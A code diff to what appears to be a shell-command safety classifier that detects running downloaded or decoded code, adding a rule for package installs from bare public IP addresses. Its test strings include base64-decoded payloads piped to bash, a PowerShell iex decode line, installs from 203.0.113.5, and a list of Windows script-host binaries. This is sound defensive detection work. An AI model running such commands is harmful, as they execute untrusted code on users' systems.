@@ -1,5 +1,5 @@
 /** Running what the network sends: piped, substituted, or saved and then run. Projects' own installers are ordinary. */
-import { hostOf, hostsInText, isAddress, isAnonymous, isLoopback, isOfficialInstaller, isReleaseHost } from '../hosts.ts';
+import { hostOf, hostsInText, isAddress, isAnonymous, isLoopback, isOfficialInstaller, isPrivate, isReleaseHost } from '../hosts.ts';
 import { isCodeInterpreter, isShell, runsInput } from '../interpreters.ts';
 import { hasFlag, joinedArgs, operands, upstream } from '../invocation.ts';
 import type { Invocation } from '../invocation.ts';
@@ -40,7 +40,7 @@ function substituted(invocation: Invocation, scene: Scene): Download | undefined
       for (const inner of scene.walk.runBy(script)) {
         const found = downloadAmong([inner, ...upstream(inner)]);
         if (found) return found;
-        for (const word2 of inner.args.slice(0, 8)) for (const deeper of word2.carried) {
+        for (const part of [...(inner.head ? [inner.head] : []), ...inner.args.slice(0, 8)]) for (const deeper of part.carried) {
           const below = downloadAmong(scene.walk.runBy(deeper).flatMap((one) => [one, ...upstream(one)]));
           if (below) return below;
         }
@@ -174,6 +174,12 @@ export const DOWNLOAD_RUN_RULES: readonly CommandRule[] = [
     },
     matches: ['echo aGVsbG8= | base64 -d | bash', 'eval "$(echo x | base64 --decode)"', 'cat x | openssl enc -d -aes-256-cbc -k p | sh', "python3 -c \"exec(__import__('base64').b64decode('cHJpbnQoMSk='))\"", 'bash <(base64 -d payload.txt)', "PS> iex ([Text.Encoding]::UTF8.GetString([Convert]::FromBase64String('aGVsbG8=')))"],
     ignores: ['base64 -d file > out', 'echo aGVsbG8= | base64 -d', 'kubectl get secret x -o jsonpath={.data.p} | base64 -d', "python3 -c \"import base64; print(base64.b64decode('aGVsbG8='))\""],
+  },
+  {
+    id: 'install-from-stranger', family: 'download-run', certainty: 'likely', verbs: ['pip', 'pip3', 'uv', 'npm', 'yarn', 'pnpm', 'gem', 'kubectl', 'rpm', 'apt-get', 'apt', 'dnf', 'yum', 'cargo', 'brew', 'easy_install', 'code'],
+    test: (invocation) => /\b(?:install|add|i|apply|create|-\w*i\w*|config)\b/.test(joinedArgs(invocation)) && invocation.texts.some((text) => hostsInText(text).some((host) => isAnonymous(host) || (isAddress(host) && !isPrivate(host)))),
+    matches: ['pip install --index-url http://203.0.113.5/simple x', 'npm install http://203.0.113.5/x.tgz', 'kubectl apply -f http://203.0.113.5/x.yaml'],
+    ignores: ['pip install -i https://pypi.tuna.tsinghua.edu.cn/simple x', 'npm install --registry http://10.0.0.3:4873', 'kubectl apply -f https://raw.githubusercontent.com/argoproj/argo-cd/stable/manifests/install.yaml'],
   },
   {
     id: 'script-host-download', family: 'download-run', certainty: 'certain', verbs: ['mshta', 'regsvr32', 'rundll32', 'msiexec', 'wmic', 'cscript', 'wscript', 'installutil', 'cmstp', 'msbuild', 'odbcconf', 'regasm', 'forfiles', 'pcalua', 'hh', 'msxsl'],
